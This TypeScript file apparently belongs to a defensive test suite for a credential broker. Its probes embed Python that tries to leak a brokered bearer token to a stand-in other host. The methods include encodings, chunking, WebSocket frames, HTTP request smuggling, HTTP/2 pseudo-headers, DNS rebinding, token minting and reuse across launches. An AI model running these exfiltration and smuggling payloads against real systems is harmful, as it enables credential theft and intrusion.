import type { Probe } from '../../probe.ts';
import type { Scene } from '../../scene.ts';
import { attack } from '../attack.ts';
import { ALLOWED, brokeredFor, client, MINTING, OTHER } from './hosts.ts';

/** One way to make the value go where it should not, after the key was used as it may be. */
const misuse = (
  name: string,
  { title, tried, reference, python }: Pick<Probe, 'title' | 'tried' | 'reference'> & { readonly python: string },
): Probe => ({
  id: `broker/${name}`,
  title,
  ...brokeredFor(),
  tried,
  reference,
  trial: (scene) => ({ python: `${client(scene)}\nuse()\n${python}` }),
});

const STOLEN_TOKEN = attack('T1528');
const rfc = (number: number, section: string) =>
  `https://datatracker.ietf.org/doc/html/rfc${number}#section-${section}`;

const ELSEWHERE: readonly Probe[] = [
  misuse('other-host', {
    title: 'sending a brokered credential to another host on the list',
    tried: 'the Authorization header that the host gets, sent to one that can be reached as well',
    reference: attack('T1041'),
    python: `ask(request('/', BEARER, host='${OTHER}'), name='${OTHER}')`,
  }),
  misuse('other-port', {
    title: 'sending a brokered credential to another port of its host',
    tried: 'the same request to a second service on the host',
    reference: attack('T1571'),
    python: `ask(request('/', BEARER, host='${ALLOWED}:8443'), port=8443)`,
  }),
  misuse('redirect', {
    title: 'being led elsewhere by the host that may have a credential',
    tried: 'following a redirect to another host with all headers, as careless clients do',
    reference: rfc(9110, '15.4'),
    python: `
if b' 302 ' in ask(request('/redirect', BEARER.replace(TOKEN, 'none'))):
    ask(request('/', BEARER, host='${OTHER}'), name='${OTHER}')`,
  }),
];

const PLACE: readonly Probe[] = [
  misuse('other-place', {
    title: 'a brokered credential in places that were not declared',
    tried: 'the path, the query, another header, a cookie, a form and a JSON body of requests to the host itself',
    reference: STOLEN_TOKEN,
    python: `
ask(request('/' + TOKEN))
ask(request('/?key=' + TOKEN))
for name in ('X-Api-Key', 'Cookie', 'User-Agent', 'Proxy-Authorization', 'Referer'): ask(request('/', f'{name}: {TOKEN}'))
ask(request('/', 'Content-Type: application/x-www-form-urlencoded', body=b'key=' + TOKEN.encode(), method='POST'))
ask(request('/', 'Content-Type: application/json', body=json.dumps({'key': TOKEN}).encode(), method='POST'))`,
  }),
  misuse('twice', {
    title: 'a second copy of a brokered credential beside the one that is sent',
    tried: 'the declared header twice, and once with a copy in the body',
    reference: STOLEN_TOKEN,
    python: `
ask(request('/', BEARER, BEARER))
ask(request('/', BEARER + ' ' + TOKEN))
ask(request('/', BEARER, body=TOKEN.encode(), method='POST'))`,
  }),
  misuse('encoded', {
    title: 'a brokered credential in another spelling',
    tried: 'base64, hex, percent signs and JSON escapes, in a header, the query and the body',
    reference: attack('T1132'),
    python: `
data = TOKEN.encode()
forms = [base64.b64encode(b'x' * n + data).decode() for n in (0, 1, 2)]
forms += [data.hex(), ''.join('%%%02x' % one for one in data), ''.join('\\\\u%04x' % one for one in data)]
for form in forms:
    ask(request('/', 'X-Copy: ' + form))
    ask(request('/?copy=' + form.replace('\\\\', '%5c')))
    ask(request('/', 'Content-Type: application/json', body=b'{"copy":"' + form.encode() + b'"}', method='POST'))`,
  }),
  misuse('split', {
    title: 'a brokered credential in parts that the server puts together',
    tried: 'chunks of one byte, and a body that is sent in two packets',
    reference: rfc(9112, '7.1'),
    python: `
data = TOKEN.encode()
chunks = b''.join(b'1\\r\\n%c\\r\\n' % one for one in data) + b'0\\r\\n\\r\\n'
ask(request('/', 'Transfer-Encoding: chunked', body=chunks, method='POST', length=False))
whole = request('/', BEARER, body=data, method='POST')
ask(whole[:-9], whole[-9:])`,
  }),
  misuse('trailers', {
    title: 'a brokered credential in the trailers of a request',
    tried: 'a chunked body with the credential in a field behind it',
    reference: rfc(9110, '6.5'),
    python: `
for name in ('X-Late', 'Authorization'):
    ask(request('/', 'Transfer-Encoding: chunked', f'Trailer: {name}', body=f'2\\r\\nok\\r\\n0\\r\\n{name}: {TOKEN}\\r\\n\\r\\n'.encode(), method='POST', length=False))`,
  }),
  misuse('websocket', {
    title: 'a brokered credential in messages of a WebSocket',
    tried: 'one text frame, and a text in two frames, on a connection that was opened with the credential',
    reference: rfc(6455, '5.4'),
    python: `
opening = request('/ws', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==').replace(b'Connection: close', b'Connection: Upgrade')
data = TOKEN.encode()
frame = lambda first, text: bytes([first, 128 + len(text), 0, 0, 0, 0]) + text
ask(opening, frame(0x81, data), turns=True)
ask(opening, frame(0x01, data[:20]) + frame(0x80, data[20:]), turns=True)`,
  }),
];

const FRONTING = attack('T1090/004');

const READ_OTHERWISE: readonly Probe[] = [
  misuse('other-name', {
    title: 'a brokered credential for a host that is named otherwise',
    tried: 'another name in the TLS greeting, in the Host header, in both, twice, and in the request line',
    reference: FRONTING,
    python: `
ask(request('/', BEARER, host='${OTHER}'))
ask(request('/', BEARER), sni='${OTHER}')
ask(request('/', BEARER, host='${OTHER}'), sni='${OTHER}')
ask(request('/', 'Host: ${OTHER}', BEARER))
ask(request('https://${OTHER}/', BEARER))`,
  }),
  misuse('smuggled', {
    title: 'a request with a brokered credential inside another one',
    tried: 'two lengths, a length and chunks, a folded header and bare line ends around a second request',
    reference: 'https://portswigger.net/web-security/request-smuggling',
    python: `
inner = request('/', BEARER, host='${OTHER}')
for lines in ([f'Content-Length: {len(inner)}', 'Transfer-Encoding: chunked'], ['Content-Length: 0', f'Content-Length: {len(inner)}'],
    ['Transfer-Encoding: chunked, identity'], ['Transfer-Encoding : chunked'], ['X-A: b', ' Transfer-Encoding: chunked'], ['Content-Length: 0']):
    ask(request('/', *lines, body=(b'0\\r\\n\\r\\n' if 'chunked' in ''.join(lines) else b'') + inner, method='POST', length=False))
ask(request('/', 'X-A: b').replace(b'\\r\\n\\r\\n', b'\\n\\n' + inner))
ask(b'GET / HTTP/1.1\\r\\nHost: ${ALLOWED}\\r\\nX-A: b\\x00\\r\\nX-B: ' + TOKEN.encode() + b'\\r\\n\\r\\n')`,
  }),
  misuse('pseudo-headers', {
    title: 'a brokered credential in what HTTP/2 has beside headers',
    tried: 'another authority, two of them, and the credential in the path, the method and the scheme',
    reference: rfc(9113, '8.3'),
    python: `
def text(one): return bytes([127, len(one) - 127]) + one if len(one) >= 127 else bytes([len(one)]) + one
def headers(**more):
    all = [(':method', 'GET'), (':scheme', 'https'), (':path', '/'), (':authority', '${ALLOWED}')]
    pairs = [(name, more.pop(name[1:], value)) for name, value in all] + more.pop('others', [])
    block = b''.join(b'\\x00' + text(name.encode()) + text(value.encode()) for name, value in pairs)
    return len(block).to_bytes(3, 'big') + b'\\x01\\x05' + (1).to_bytes(4, 'big') + block
def answered(heard):
    while len(heard) >= 9:
        length, kind, flags = int.from_bytes(heard[:3], 'big'), heard[3], heard[4]
        if kind in (3, 7) or (kind in (0, 1) and flags & 1): return True
        heard = heard[9 + length:]
    return False
HELLO = b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + b'\\x00\\x00\\x00\\x04\\x00\\x00\\x00\\x00\\x00'
auth = ('authorization', 'Bearer ' + TOKEN)
for block in (headers(authority='${OTHER}', others=[auth]), headers(others=[(':authority', '${OTHER}'), auth]), headers(others=[('host', '${OTHER}'), auth]),
    headers(path='/' + TOKEN), headers(method=TOKEN), headers(scheme=TOKEN), headers(others=[('x-copy', TOKEN)])):
    ask(HELLO + block, alpn='h2', until=answered)`,
  }),
];

/** Comes back to the command, rather than going out. */
const BACK: readonly Probe[] = [
  {
    ...misuse('echo', {
      title: 'the value of a brokered credential in the answer of a server that echoes it',
      tried: 'asking for it plainly in chunks and a trailer, in a header, compressed, and in four spellings',
      reference: STOLEN_TOKEN,
      python: `
import urllib.parse
after = lambda form: ask(request('/echo/' + form, BEARER)).partition(b'\\r\\n\\r\\n')[2]
def decoded(form, decode):
    try: print(decode(after(form)))
    except ValueError as error: print(error)
for form in ('header', 'gzip', 'reason'): ask(request('/echo/' + form, BEARER))
print(b''.join(after('plain').split(b'\\r\\n')[1::2]))
decoded('base64', base64.b64decode)
decoded('hex', lambda text: bytes.fromhex(text.decode()))
decoded('percent', urllib.parse.unquote_to_bytes)
decoded('json', json.loads)`,
    }),
    worked: ({ canary }, { stdout }) => stdout.includes(canary),
  },
  {
    ...misuse('minted', {
      title: 'a new credential that a brokered one is exchanged for',
      tried: 'asking an address that hands out tokens, spelled plainly and otherwise, with the method in a header',
      reference: 'https://docs.github.com/en/rest/apps/apps#create-an-installation-access-token-for-an-app',
      python: '',
    }),
    ...brokeredFor(MINTING),
    trial: (scene) => ({
      python: `${client(scene, MINTING)}
use()
for path in ('/app/installations/1/access_tokens', '/app//installations/1/./access_tokens', '/app/installations/1/%61ccess_tokens'):
    ask(request(path, BEARER, method='POST', body=b'{}'))
again = ['X-HTTP-Method-Override: POST']
for more in (again, [*again, 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==']):
    ask(request('/app/installations/1/access_tokens', BEARER, *more).replace(b'Connection: close', b'Connection: Upgrade' if more != again else b'Connection: close'))`,
    }),
    worked: ({ canary }, { stdout }) => stdout.includes([...canary].reverse().join('')),
  },
];

const IMPOSTOR: Probe = {
  ...misuse('impostor', {
    title: 'a server that stands where the name of the host leads, with a certificate of its own',
    tried: 'what a name that was bound to another address leads to',
    reference: 'https://en.wikipedia.org/wiki/DNS_rebinding',
    python: '',
  }),
  ...brokeredFor(ALLOWED, true),
  trial: (scene) => ({ python: `${client(scene)}\nask(request('/', BEARER))` }),
};

/** The launcher is started twice; what the first one was given is used in the second. */
const twice = (isHeld: boolean) => (_: Scene) => [
  '/bin/sh',
  '-c',
  `said=$HOME/said told=$HOME/told; mkfifo "$said" "$told" && { "$@" < "$told" > "$said" & exec 4> "$told"; echo hold >&4
while read -r line; do case $line in token:*) break;; esac; done < "$said"
${isHeld ? '' : 'exec 4>&-; wait'}
echo "$line" | "$@"; code=$?; exec 4>&-; wait; exit $code; }`,
  'sh',
];

const OTHERS: readonly Probe[] = [
  { isHeld: true, name: 'other-launch', title: 'the placeholder of another launch that is still running' },
  { isHeld: false, name: 'ended-launch', title: 'the placeholder of a launch that has ended' },
].map(({ isHeld, name, title }) => ({
  ...misuse(name, {
    title,
    tried: 'starting the command twice, and using in the second what the first one was given',
    reference: STOLEN_TOKEN,
    python: '',
  }),
  starter: twice(isHeld),
  trial: (scene) => ({
    python: `${client(scene)}
line = sys.stdin.readline().strip()
if line == 'hold':
    use()
    print('token:' + TOKEN, flush=True)
    sys.stdin.read()
elif line:
    use()
    ask(request('/', 'Authorization: Bearer ' + line.removeprefix('token:')))
else: sys.exit('it was told nothing')`,
  }),
}));

export const MISUSE: readonly Probe[] = [...ELSEWHERE, ...PLACE, ...READ_OTHERWISE, IMPOSTOR, ...OTHERS, ...BACK];
